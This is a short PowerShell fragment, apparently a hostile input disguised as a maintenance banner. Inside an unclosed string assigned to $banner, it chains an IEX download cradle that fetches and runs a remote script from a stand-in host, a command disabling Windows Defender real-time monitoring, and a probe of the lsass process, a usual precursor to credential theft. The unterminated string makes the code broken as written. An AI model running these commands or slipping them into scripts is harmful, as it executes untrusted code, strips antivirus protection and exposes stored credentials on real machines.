$banner = "Maintenance starts now
Get-Service -Name 'Spooler'
IEX (New-Object System.Net.WebClient).DownloadString('http://203.0.113.10/x.ps1')
Set-MpPreference -DisableRealtimeMonitoring $true
Get-Process -Name 'lsass'
